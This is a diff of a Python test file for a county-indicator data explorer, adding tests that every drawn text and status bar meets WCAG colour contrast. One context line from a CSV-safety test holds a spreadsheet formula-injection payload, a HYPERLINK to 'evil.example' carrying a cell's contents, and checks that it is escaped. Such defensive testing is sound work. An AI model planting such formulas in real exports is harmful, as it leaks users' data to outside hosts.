@@ -11,6 +11,7 @@ import csv
 import dataclasses
 import io
 import re
+from html.parser import HTMLParser
 
 import pandas as pd
 import pytest
@@ -22,6 +23,7 @@ from hemei_tools.engine import region
 from hemei_tools.present import explorer as ex_mod
 from hemei_tools.present import narrative as nv
 from hemei_tools.present.explorer import Explorer, ExplorerData, ExplorerDataError
+from hemei_tools.present.style import INK, MIN_CONTRAST, STATUS_EDGE, contrast_ratio
 
 COUNTY = "340722"
 YEAR = 2023
@@ -246,3 +248,150 @@ def test_the_village_csv_holds_every_match_and_its_cells_are_inert(ex, data):
     first = back[1 + 0]
     assert first[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")' and first[2] == "'@SUM(A1)"
     assert first[0] == str(v.loc[0, "village_code"])  # a code stays as it is
+
+
+# --------------------------------------------------------------------------- colours (point 4)
+class _Colours(HTMLParser):
+    """Every visible text of an explorer part with its text colour and the background behind it.
+
+    HTML text takes the nearest ``color:`` and ``background:`` of its boxes; SVG text its
+    ``fill`` (own or inherited) on the last rectangle drawn before it under its anchor point
+    (x, y − 4: the middle of an 11 px glyph), else on the background of the chart's box. A
+    colour left to the notebook's theme is ``None``. Tooltips (``<title>``) are not drawn.
+    """
+
+    VOID = {"br", "img", "input", "meta", "hr"}
+
+    def __init__(self):
+        super().__init__()
+        self.stack: list[dict] = []
+        self.rects: list[tuple[float, float, float, float, str]] = []
+        self.texts: list[tuple[str, str | None, str | None]] = []
+        self.bars: list[tuple[str, str | None]] = []
+
+    @staticmethod
+    def _css(style: str, prop: str) -> str | None:
+        found = re.findall(rf"(?:^|;)\s*{prop}\s*:\s*([^;]+)", style or "")
+        return found[-1].strip() if found else None
+
+    def handle_starttag(self, tag, attrs):
+        a = dict(attrs)
+        top = self.stack[-1] if self.stack else {"fg": None, "bg": None, "fill": None, "hidden": False}
+        style = a.get("style", "")
+        node = {"tag": tag, "a": a,
+                "fg": self._css(style, "color") or top["fg"],
+                "bg": self._css(style, "background(?:-color)?") or top["bg"],
+                "fill": a.get("fill") or top["fill"],
+                "hidden": top["hidden"] or tag in ("title", "style", "script")}
+        if tag == "rect" and a.get("fill") not in (None, "none"):
+            self.rects.append((float(a.get("x", 0)), float(a.get("y", 0)), float(a["width"]), float(a["height"]),
+                               a["fill"]))
+            if a["fill"] in ex_mod.STATUS_COLOURS.values():
+                self.bars.append((a["fill"], a.get("stroke")))
+        if tag not in self.VOID and not tag.endswith("/"):
+            self.stack.append(node)
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+        if tag not in self.VOID and self.stack and self.stack[-1]["tag"] == tag:
+            self.stack.pop()
+
+    def handle_endtag(self, tag):
+        while self.stack:
+            if self.stack.pop()["tag"] == tag:
+                break
+
+    def handle_data(self, data):
+        if not data.strip() or not self.stack or self.stack[-1]["hidden"]:
+            return
+        node = self.stack[-1]
+        if node["tag"] == "text":
+            x, y = float(node["a"]["x"]), float(node["a"]["y"]) - 4
+            under = [f for rx, ry, w, h, f in self.rects if rx <= x <= rx + w and ry <= y <= ry + h]
+            self.texts.append((data.strip(), node["fill"], under[-1] if under else node["bg"]))
+        else:
+            self.texts.append((data.strip(), node["fg"], node["bg"]))
+
+
+def _colours(html: str) -> _Colours:
+    parser = _Colours()
+    parser.feed(html)
+    return parser
+
+
+def _explorer_parts(ex, monkeypatch) -> dict[str, str]:
+    """Every part of the explorer as drawn: the chosen indicator highlighted, a village search
+    with results, the busy line and the error line."""
+    ex.search.value = "村"
+    parts = {name: getattr(ex, name).value for name in
+             ("headline", "scores_chart", "trend_chart", "gaps_chart", "villages", "downloads")}
+    ex.search.value = ""
+    parts["villages_hint"] = ex.villages.value
+    ex.search.value = "不存在的村名"
+    parts["villages_none"] = ex.villages.value
+    seen = []
+    ex.status.observe(lambda change: seen.append(change["new"]), names="value")
+    ex.county.value = "340705"
+    parts["busy"] = next(s for s in seen if s)
+
+    def fail(county, year):
+        raise ExplorerDataError("枞阳县在2018年没有指标数据")
+
+    monkeypatch.setattr(ex.data, "view", fail)
+    ex.year.value = 2022
+    parts["error"] = ex.status.value
+    monkeypatch.undo()
+    return parts
+
+
+def test_every_text_of_the_explorer_reaches_4_5_to_1_on_its_own_background(ex, monkeypatch):
+    """Issue 14 point 4: every text the explorer draws has a colour and a background of its own
+    (not the notebook theme's: black SVG text on a dark theme would vanish) and a WCAG contrast
+    of at least 4.5 : 1 between them, computed with style.contrast_ratio."""
+    parts = _explorer_parts(ex, monkeypatch)
+    assert "示例数据（模拟）" in parts["headline"] and "计算中…" in parts["busy"]
+    checked = set()
+    for name, html_text in parts.items():
+        texts = _colours(html_text).texts
+        assert texts, name
+        for text, fg, bg in texts:
+            assert fg is not None and bg is not None, (name, text, fg, bg)
+            ratio = contrast_ratio(fg, bg)
+            assert ratio >= MIN_CONTRAST, (name, text, fg, bg, round(ratio, 2))
+            checked.add((fg, bg))
+    # the pairs the explorer draws: ink, muted, link, error and note text on the page, and the
+    # chosen indicator's row on its highlight
+    assert {(ex_mod.MUTED, ex_mod.PAGE), (ex_mod.LINK, ex_mod.PAGE), (ex_mod.ERROR_TEXT, ex_mod.PAGE),
+            (ex_mod.NOTE_TEXT, ex_mod.PAGE), (INK, ex_mod.HIGHLIGHT)} <= checked
+    assert (INK, ex_mod.PAGE) in checked or (INK.lower(), ex_mod.PAGE) in checked
+
+
+def test_the_explorer_text_colours_meet_4_5_to_1_by_hand():
+    """The same pairs by hand (WCAG 2: (L1 + 0.05) / (L2 + 0.05)): #555555 has L = 0.0908, so
+    on white (L = 1) 1.05 / 0.1408 = 7.46; on the highlight #fff3c4 (L = 0.8932) 0.9432 / 0.1408
+    = 6.70."""
+    assert contrast_ratio(ex_mod.MUTED, ex_mod.PAGE) == pytest.approx(7.46, abs=0.01)
+    assert contrast_ratio(ex_mod.MUTED, ex_mod.HIGHLIGHT) == pytest.approx(6.70, abs=0.01)
+    for fg in (INK, ex_mod.MUTED, ex_mod.LINK, ex_mod.ERROR_TEXT, ex_mod.NOTE_TEXT):
+        for bg in (ex_mod.PAGE, ex_mod.HIGHLIGHT):
+            assert contrast_ratio(fg, bg) >= MIN_CONTRAST, (fg, bg)
+
+
+def test_light_status_bars_have_an_edge_that_stands_out_from_the_page(ex):
+    """A yellow (1.7 : 1 on white), orange (2.5 : 1) or grey (1.9 : 1) bar alone fades into the
+    page: every status bar of the gap chart either reaches 3 : 1 on the page itself (WCAG 1.4.11,
+    graphics) or has the charts' dark edge (STATUS_EDGE, 8.8 : 1)."""
+    bars = _colours(ex.gaps_chart.value).bars
+    assert len(bars) == len(data_view_gaps(ex))
+    light = [(fill, stroke) for fill, stroke in bars if contrast_ratio(fill, ex_mod.PAGE) < 3]
+    assert light, "the demo county has yellow, orange or grey lights"
+    for fill, stroke in bars:
+        best = max(contrast_ratio(fill, ex_mod.PAGE), contrast_ratio(stroke, ex_mod.PAGE) if stroke else 0.0)
+        assert best >= 3, (fill, stroke)
+    assert {stroke for _, stroke in light} == {STATUS_EDGE}
+
+
+def data_view_gaps(ex) -> pd.DataFrame:
+    """The scored indicators of the explorer's view that have a distance (one bar each)."""
+    g = ex.data.view(ex.county.value, int(ex.year.value)).gaps
+    return g[g["distance"].notna()]
